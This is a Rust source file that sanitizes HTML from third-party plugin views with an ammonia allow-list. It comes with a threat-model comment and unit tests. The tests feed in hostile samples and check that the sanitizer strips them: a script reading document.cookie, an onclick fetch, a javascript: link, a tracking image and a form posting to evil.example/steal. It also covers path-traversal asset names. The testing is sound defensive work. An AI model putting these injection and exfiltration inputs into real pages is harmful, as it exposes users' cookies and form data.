//! The allow-list every plugin view (`types.view`) passes before a browser
//! sees it: the threat model and the policy are in wit/README.md ("Views").
//!
//! A plugin is third-party code; its HTML is shown inside the application's
//! own pages, so it must get no power there. Built from
//! [`ammonia::Builder::empty`], so a new ammonia release cannot widen it:
//!
//! - no script of any kind: `script`/`style` elements go with their content,
//!   `on*` and `style` attributes are not on the list, and no URL survives
//!   (no `href`, no `src`: no `javascript:`, no navigation away, no request
//!   to another origin, no tracking pixel);
//! - forms post nowhere: `form` keeps no `action`/`method`, every `button` is
//!   `type="button"`, and `input` types that submit, upload or navigate
//!   (`submit`, `image`, `file`, `reset`) become text inputs; the page
//!   reads the fields and sends them through the kernel's own routes;
//! - no `id`, no `name` on anything but form fields, no `form`/`formaction`
//!   attributes: nothing can take or clobber an element or a global of the
//!   application around the view;
//! - `class` and `data-*` stay (the page scopes them to the view's box).

use std::collections::{HashMap, HashSet};

use ammonia::Builder;

use crate::slots::View;

/// Elements of prose, lists, tables and forms.
const TAGS: &[&str] = &[
    "abbr",
    "b",
    "blockquote",
    "br",
    "button",
    "caption",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "fieldset",
    "figcaption",
    "figure",
    "form",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "input",
    "ins",
    "kbd",
    "label",
    "legend",
    "li",
    "mark",
    "meter",
    "ol",
    "optgroup",
    "option",
    "output",
    "p",
    "pre",
    "progress",
    "q",
    "s",
    "samp",
    "select",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "textarea",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
];

/// Dropped with everything inside: their content is code or foreign markup.
const DROP_WITH_CONTENT: &[&str] =
    &["script", "style", "template", "noscript", "iframe", "object", "embed", "svg", "math", "title"];

/// Attributes any element may carry.
const GENERIC: &[&str] = &["class", "title", "lang", "dir", "hidden", "role", "aria-label", "aria-describedby"];

/// Per element, the attributes that element may carry besides [`GENERIC`].
const PER_TAG: &[(&str, &[&str])] = &[
    (
        "input",
        &[
            "name",
            "type",
            "value",
            "placeholder",
            "min",
            "max",
            "step",
            "checked",
            "disabled",
            "readonly",
            "required",
            "maxlength",
            "minlength",
            "pattern",
            "size",
            "inputmode",
            "autocomplete",
            "spellcheck",
        ],
    ),
    ("select", &["name", "multiple", "required", "disabled", "size"]),
    ("option", &["value", "selected", "disabled", "label"]),
    ("optgroup", &["label", "disabled"]),
    (
        "textarea",
        &[
            "name",
            "rows",
            "cols",
            "placeholder",
            "maxlength",
            "minlength",
            "required",
            "readonly",
            "disabled",
            "spellcheck",
        ],
    ),
    ("button", &["name", "value", "disabled"]),
    ("fieldset", &["disabled"]),
    ("output", &["name"]),
    ("td", &["colspan", "rowspan", "headers"]),
    ("th", &["colspan", "rowspan", "scope", "abbr"]),
    ("ol", &["start", "reversed", "type"]),
    ("li", &["value"]),
    ("time", &["datetime"]),
    ("meter", &["value", "min", "max", "low", "high", "optimum"]),
    ("progress", &["value", "max"]),
    ("details", &["open"]),
];

/// `input` types kept; any other becomes a text input.
const INPUT_TYPES: &[&str] = &[
    "text", "number", "radio", "checkbox", "range", "hidden", "date", "time", "email", "url", "tel", "search", "color",
];

fn builder() -> Builder<'static> {
    let mut b = Builder::empty();
    b.tags(TAGS.iter().copied().collect::<HashSet<_>>())
        .clean_content_tags(DROP_WITH_CONTENT.iter().copied().filter(|t| !TAGS.contains(t)).collect::<HashSet<_>>())
        .generic_attributes(GENERIC.iter().copied().collect::<HashSet<_>>())
        .generic_attribute_prefixes(["data-"].into_iter().collect::<HashSet<_>>())
        .tag_attributes(
            PER_TAG.iter().map(|(t, a)| (*t, a.iter().copied().collect::<HashSet<_>>())).collect::<HashMap<_, _>>(),
        )
        .url_schemes(HashSet::new())
        .link_rel(None)
        .strip_comments(true)
        .set_tag_attribute_value("button", "type", "button")
        .attribute_filter(|tag, attr, value| match (tag, attr) {
            ("input", "type") => {
                let t = value.to_ascii_lowercase();
                Some(if INPUT_TYPES.contains(&t.as_str()) { t.into() } else { "text".into() })
            }
            _ => Some(value.into()),
        });
    b
}

/// The view with its HTML made safe to show in the application's pages.
/// Asset names are kept only when they are plain file names of the package
/// (`[A-Za-z0-9._-]`, not starting with `.`).
pub fn sanitize(view: &View) -> View {
    thread_local! {
        static BUILDER: Builder<'static> = builder();
    }
    let html = BUILDER.with(|b| b.clean(&view.html).to_string());
    let assets = view
        .assets
        .iter()
        .filter(|a| {
            (1..=128).contains(&a.len())
                && !a.starts_with('.')
                && a.bytes().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
        })
        .cloned()
        .collect();
    View { html, assets }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> String {
        sanitize(&View { html: html.into(), assets: vec![] }).html
    }

    #[test]
    fn scripts_handlers_styles_and_urls_go() {
        let out = clean(concat!(
            r#"<p onclick="fetch('/api/v1/me')" style="position:fixed">Hi<script>document.cookie</script></p>"#,
            r#"<img src="https://evil.example/t.gif"><a href="javascript:alert(1)">x</a>"#,
            r#"<iframe src="/api/v1/me"></iframe><svg><script>alert(1)</script></svg><style>body{}</style>"#,
            r#"<div id="app" data-action="flip" class="card">k</div>"#,
        ));
        for gone in
            ["onclick", "style", "script", "cookie", "evil", "javascript", "iframe", "svg", "id=", "href", "<img"]
        {
            assert!(!out.contains(gone), "{gone} survived: {out}");
        }
        assert!(out.contains(r#"data-action="flip""#), "{out}");
        assert!(out.contains(r#"class="card""#), "{out}");
    }

    #[test]
    fn forms_cannot_submit_or_navigate() {
        let out = clean(concat!(
            r#"<form action="https://evil.example/steal" method="post">"#,
            r#"<input name="value" type="number" step="any"><input type="submit" formaction="/x">"#,
            r#"<input type="file" name="f"><button type="submit" data-action="check">Check</button>"#,
            r#"<select name="unit"><option value="m" selected>m</option></select></form>"#,
        ));
        for gone in [" action=\"", "method", "evil", "formaction", "type=\"submit\"", "type=\"file\""] {
            assert!(!out.contains(gone), "{gone} survived: {out}");
        }
        assert!(out.contains(r#"<input name="value" type="number" step="any">"#), "{out}");
        assert!(out.contains(r#"type="button""#), "{out}");
        assert!(out.contains(r#"<option value="m" selected="">m</option>"#), "{out}");
    }

    #[test]
    fn asset_names_are_plain_file_names() {
        let v = sanitize(&View {
            html: String::new(),
            assets: vec!["cards.css".into(), "../secret".into(), ".env".into(), "a/b.png".into(), "x y".into()],
        });
        assert_eq!(v.assets, vec!["cards.css".to_string()]);
    }
}
